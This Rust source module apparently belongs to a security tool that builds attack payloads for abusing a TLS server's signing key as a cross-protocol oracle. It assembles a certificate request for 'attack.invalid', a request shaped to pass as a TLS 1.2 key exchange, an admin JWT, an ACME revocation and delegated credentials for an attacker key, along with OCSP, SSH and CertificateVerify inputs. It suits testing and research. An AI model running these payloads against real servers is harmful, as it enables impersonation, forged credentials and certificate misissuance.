//! What is signed outside of TLS, and what somebody with an edge in hand would want the key to sign.

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;

use super::rsa::{random, sha256};
use super::target::Victim;

/// An object and its name in a report.
pub(super) struct Object {
    pub(super) what: &'static str,
    pub(super) bytes: Vec<u8>,
}

/// One element of DER.
fn der(tag: u8, content: &[u8]) -> Vec<u8> {
    let length = content.len();
    let mut out = vec![tag];
    match u8::try_from(length) {
        Ok(short) if short < 0x80 => out.push(short),
        Ok(long) => out.extend([0x81, long]),
        Err(_) => {
            let [.., high, low] = length.to_be_bytes();
            out.extend([0x82, high, low]);
        }
    }
    out.extend_from_slice(content);
    out
}

fn sequence(parts: &[&[u8]]) -> Vec<u8> {
    der(0x30, &parts.concat())
}

/// The part of a certificate request that is signed (RFC 2986, section 4.1), with the key's own public half and the name
/// `attack.invalid`: with a signature, an authority would issue a certificate for it.
pub(super) fn certificate_request(victim: &Victim) -> Vec<u8> {
    let name = der(0x30, &der(0x82, b"attack.invalid"));
    // subjectAltName, 2.5.29.17.
    let extension = sequence(&[&der(0x06, &[0x55, 0x1d, 0x11]), &der(0x04, &name)]);
    let extensions = sequence(&[&extension]);
    // extensionRequest, 1.2.840.113549.1.9.14.
    let request = der(
        0x06,
        &[0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x09, 0x0e],
    );
    let attribute = sequence(&[&request, &der(0x31, &extensions)]);
    sequence(&[
        &[0x02, 0x01, 0x00],
        &sequence(&[]),
        &victim.spki,
        &der(0xa0, &attribute),
    ])
}

/// Certificate requests: a real one, and one shaped to fit the grammar of TLS 1.2.
pub(super) fn certificate_requests(victim: &Victim) -> Vec<Object> {
    // The first 64 bytes of a key exchange are free. Here they begin a request that ends with the string.
    let mut shaped = vec![0x11; 64];
    shaped.splice(..9, [0x30, 0x62, 2, 1, 0, 0x30, 0, 0x30, 0x5b]);
    shaped.extend([3, 0, 29, 32]);
    shaped.extend([9; 32]);
    vec![
        Object {
            what: "a certificate request",
            bytes: certificate_request(victim),
        },
        Object {
            what: "a certificate request in the shape of a key exchange",
            bytes: shaped,
        },
    ]
}

/// Web signatures (RFC 7515): a token that names its bearer an administrator.
pub(super) fn web_signatures(victim: &Victim) -> Vec<Object> {
    let header = format!(r#"{{"alg":"{}","typ":"JWT"}}"#, algorithm(victim));
    vec![Object {
        what: "a JWS",
        bytes: compact(&header, br#"{"sub":"admin","exp":4102444800}"#),
    }]
}

/// The revocation of the owner's certificate, signed by the certificate's own key (RFC 8555, section 7.6).
pub(super) fn revocations(victim: &Victim) -> Vec<Object> {
    let header = format!(
        r#"{{"alg":"{}","jwk":{{}},"nonce":"bm9uY2U","url":"https://acme.invalid/revoke"}}"#,
        algorithm(victim)
    );
    vec![Object {
        what: "an ACME revocation",
        bytes: compact(&header, br#"{"certificate":"MIIB","reason":1}"#),
    }]
}

/// A delegated credential (RFC 9345, section 4): seven days of the owner's name for a key of the attacker's.
pub(super) fn delegated_credentials(victim: &Victim) -> Vec<Object> {
    let spki = sequence(&[
        // id-ecPublicKey, prime256v1.
        &sequence(&[
            &der(0x06, &[0x2a, 0x86, 0x48, 0xce, 0x3d, 0x02, 0x01]),
            &der(0x06, &[0x2a, 0x86, 0x48, 0xce, 0x3d, 0x03, 0x01, 0x07]),
        ]),
        &der(0x03, &[&[0, 4][..], &random::<64>()].concat()),
    ]);
    let scheme = victim
        .schemes()
        .first()
        .map_or(0x0403, |scheme| scheme.as_u16());
    let [_, high, middle, low] = u32::try_from(spki.len()).unwrap_or(0).to_be_bytes();
    let credential = [
        &604_800_u32.to_be_bytes()[..],
        &[0x04, 0x03],
        &[high, middle, low],
        &spki,
    ]
    .concat();
    // The certificate has no bearing on whether the string is taken.
    let certificate = sequence(&[&victim.spki]);
    let string = |context: &[u8]| {
        let scheme = scheme.to_be_bytes();
        [&[b' '; 64], context, &certificate, &credential, &scheme].concat()
    };
    vec![
        Object {
            what: "a delegated credential",
            bytes: string(b"TLS, server delegated credentials\0"),
        },
        Object {
            what: "a delegated credential of a client",
            bytes: string(b"TLS, client delegated credentials\0"),
        },
    ]
}

/// What else is signed with keys: OCSP, SSH, a certificate, a handshake's other side.
pub(super) fn others(victim: &Victim) -> Vec<Object> {
    // RFC 6960, section 4.2.1: ResponseData of a responder named by key, with one answer.
    let ocsp = [
        &[0x30, 0x2f, 0xa2, 0x16, 0x04, 0x14][..],
        &[7; 20],
        b"\x18\x0f20261122200000Z",
        &[0x30, 0x04, 0x30, 0x02, 0x05, 0x00],
    ];
    // RFC 5280, section 4.1: the signed part of a certificate, as far as a parser looks before it fails.
    let certificate = sequence(&[
        &der(0xa0, &[0x02, 0x01, 0x02]),
        &[0x02, 0x01, 0x01],
        &sequence(&[]),
        &sequence(&[]),
        &sequence(&[]),
        &sequence(&[]),
        &victim.spki,
    ]);
    let ssh_file = [
        &b"SSHSIG\0\0\0\x04file\0\0\0\0\0\0\0\x06sha512\0\0\0\x40"[..],
        &[0; 64],
    ];
    let client = [
        &[b' '; 64][..],
        b"TLS 1.3, client CertificateVerify\0",
        &random::<32>(),
    ];
    vec![
        Object {
            what: "an OCSP response",
            bytes: ocsp.concat(),
        },
        Object {
            what: "a certificate",
            bytes: certificate,
        },
        Object {
            what: "an SSH file signature",
            bytes: ssh_file.concat(),
        },
        Object {
            what: "the CertificateVerify of a client",
            bytes: client.concat(),
        },
        Object {
            what: "a bare hash value",
            bytes: sha256(b"anything").to_vec(),
        },
        Object {
            what: "nothing",
            bytes: Vec::new(),
        },
    ]
}

/// The JWS algorithm of a key (RFC 7518, section 3.1).
fn algorithm(victim: &Victim) -> &'static str {
    match &*victim.key_type {
        "p-256" => "ES256",
        "p-384" => "ES384",
        "p-521" => "ES512",
        "ed25519" => "EdDSA",
        _ => "PS256",
    }
}

/// The signing input of a JWS in compact form.
fn compact(header: &str, payload: &[u8]) -> Vec<u8> {
    let encode = |bytes: &[u8]| URL_SAFE_NO_PAD.encode(bytes);
    format!("{}.{}", encode(header.as_bytes()), encode(payload)).into_bytes()
}
